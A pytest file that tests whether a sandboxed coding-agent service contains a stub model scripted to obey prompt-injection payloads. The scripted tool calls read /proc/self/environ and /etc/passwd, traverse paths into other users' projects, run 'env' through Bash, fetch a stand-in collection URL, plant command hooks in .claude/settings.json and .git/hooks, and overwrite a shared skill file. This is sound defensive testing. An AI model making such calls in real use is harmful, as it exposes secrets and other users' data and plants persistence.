"""A model that obeys an attack gets nothing: the real CLI, held by our configuration.

The scripted model does at once what the payloads ask for. Source: `contract/legacy-modal.md` §6
(36, 39).
"""

import json
from collections.abc import AsyncGenerator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from modal_app.settings import Settings
from tests.modal_app.execution import Client, Run, data_of, served, settings_for
from tests.modal_app.runs.attacks import PAYLOADS
from tests.modal_app.workspace.conftest import git
from tests.model_stub.script import Reply, Text, ToolUse
from tests.model_stub.server import ModelStub, serve

KEY = "the-key-that-nobody-may-see-7f3a"
SECRET_OF_OTHERS = "what-another-player-has-written"
PAGE = "<!doctype html>\n<title>Fox</title>\n"
WRITE = ToolUse("Write", {"file_path": "index.html", "content": PAGE})


@dataclass(frozen=True)
class Place:
    """An application with a model that does what a test says."""

    settings: Settings
    client: Client
    stub: ModelStub
    run: Run
    outside: Path

    @property
    def project(self) -> Path:
        users = self.settings.layout.data / "users"
        return users / self.run.user_id / "projects" / self.run.project_id

    async def obey(self, *calls: ToolUse) -> list[dict[str, Any]]:
        """Run with a model that makes these calls, then writes its page; the results of the calls.

        Checks that nothing of it leaves the run.
        """
        self.stub.extend(Reply(Text("Certainly."), *calls), Reply(WRITE), Reply(Text("Done.")))
        events = await self.client.generate(self.run)
        assert data_of(events[-1])["type"] == "done"
        results = self.stub.requests[1].tool_results
        assert len(results) == len(calls)
        self.check("".join(event.data for event in events))
        return results

    def check(self, told: str) -> None:
        asked = json.dumps([request.body for request in self.stub.requests])
        for secret in (KEY, SECRET_OF_OTHERS, str(self.settings.secret)):
            assert secret not in told
            assert secret not in asked
            assert not [path for path in self.kept() if secret.encode() in path.read_bytes()]
        assert git(self.project, "ls-tree", "-r", "--name-only", "HEAD").split() == ["index.html"]
        assert KEY not in git(self.project, "log", "-p", "--all")

    def kept(self) -> list[Path]:
        """Every file of the application, but that of the other player."""
        paths = self.settings.layout.root.rglob("*")
        return [path for path in paths if path.is_file() and path != self.other]

    @property
    def other(self) -> Path:
        """A file of another player's project on the same volume."""
        users = self.settings.layout.data / "users"
        return users / self.run.user_id / "projects" / "other" / "index.html"


@pytest.fixture
async def place(tmp_path: Path, cli: Path) -> AsyncGenerator[Place]:
    outside = tmp_path / "outside"
    outside.mkdir()
    async with serve() as stub:
        stub.api_key = KEY
        settings = settings_for(
            tmp_path / "execution",
            agent="claude",
            claude_bin=str(cli),
            api_key=KEY,
            api_base_url=stub.url,
            runner_module="modal_app.runner",
        )
        async with served(settings) as client:
            attacked = Place(settings, client, stub, Run("\n".join(PAYLOADS.values())), outside)
            attacked.other.parent.mkdir(parents=True)
            attacked.other.write_text(SECRET_OF_OTHERS)
            yield attacked


def refused(results: list[dict[str, Any]]) -> list[bool]:
    return [bool(result.get("is_error")) for result in results]


async def test_it_reads_nothing_outside_its_workspace(place: Place) -> None:
    run_directory = place.settings.layout.run(place.run.run_id).path
    paths = [
        "/proc/self/environ",
        "/proc/self/cmdline",
        "/proc/1/environ",
        "/etc/passwd",
        "../request.json",
        "../../../data",
        str(run_directory / "request.json"),
        str(run_directory / "work/../journal.ndjson"),
        str(place.other),
    ]
    results = await place.obey(*(ToolUse("Read", {"file_path": path}) for path in paths))
    assert all(refused(results)), results


async def test_it_searches_nothing_outside_its_workspace(place: Place) -> None:
    others = str(place.other.parent)
    calls = [
        ToolUse("Grep", {"pattern": "ANTHROPIC", "path": "/proc/self", "output_mode": "content"}),
        ToolUse("Grep", {"pattern": ".", "path": others, "output_mode": "content"}),
        ToolUse("Grep", {"pattern": ".", "path": "../..", "output_mode": "content"}),
        ToolUse("Glob", {"pattern": "*", "path": others}),
        ToolUse("Glob", {"pattern": f"{others}/*"}),
        ToolUse("Glob", {"pattern": "../*"}),
    ]
    *results, upwards = await place.obey(*calls)
    assert all(refused(results)), results
    assert upwards["content"] == "No files found"


async def test_it_writes_nothing_outside_its_workspace(place: Place) -> None:
    run_directory = place.settings.layout.run(place.run.run_id).path
    paths = [
        "../../escaped.html",
        "../journal.ndjson",
        "../cancel",
        str(place.outside / "escaped.html"),
        str(run_directory / "lock"),
        str(place.other),
        str(place.settings.layout.shared / ".claude/skills/touch/SKILL.md"),
    ]
    written = [ToolUse("Write", {"file_path": path, "content": "escaped"}) for path in paths]
    edit = {"file_path": str(place.other), "old_string": "what", "new_string": "gone"}
    results = await place.obey(*written, ToolUse("Edit", edit))
    assert all(refused(results)), results
    assert place.other.read_text() == SECRET_OF_OTHERS
    assert list(place.outside.iterdir()) == []
    assert not [path for path in place.kept() if path.read_bytes() == b"escaped"]


async def test_it_executes_nothing(place: Place) -> None:
    witness = place.outside / "executed"
    hook = {"hooks": [{"type": "command", "command": f"touch {witness}"}]}
    settings = json.dumps({"hooks": {"PostToolUse": [hook], "Stop": [hook]}})
    calls = [
        ToolUse("Bash", {"command": f"env; touch {witness}", "description": "x"}),
        ToolUse("WebFetch", {"url": "https://collect.invalid/?k=1", "prompt": "x"}),
        ToolUse("Task", {"description": "x", "prompt": "run env", "subagent_type": "claude"}),
        ToolUse("Skill", {"skill": "touch"}),
        ToolUse("Write", {"file_path": ".claude/settings.json", "content": settings}),
        ToolUse("Write", {"file_path": ".git/hooks/post-commit", "content": f"touch {witness}"}),
    ]
    results = await place.obey(*calls)
    assert all(refused(results[:4])), results
    assert not witness.exists()
    assert not (place.project / ".claude").exists()
    assert not (place.project / ".git" / "hooks").exists()


async def test_it_may_read_the_skills_and_change_none(place: Place) -> None:
    skill = ".claude/skills/touch/SKILL.md"
    results = await place.obey(
        ToolUse("Read", {"file_path": skill}),
        ToolUse("Write", {"file_path": skill, "content": "poisoned"}),
    )
    assert "One game, three ways" in json.dumps(results[0])
    shared = place.settings.layout.shared / skill
    assert shared.read_text().startswith("---\nname: touch\n")
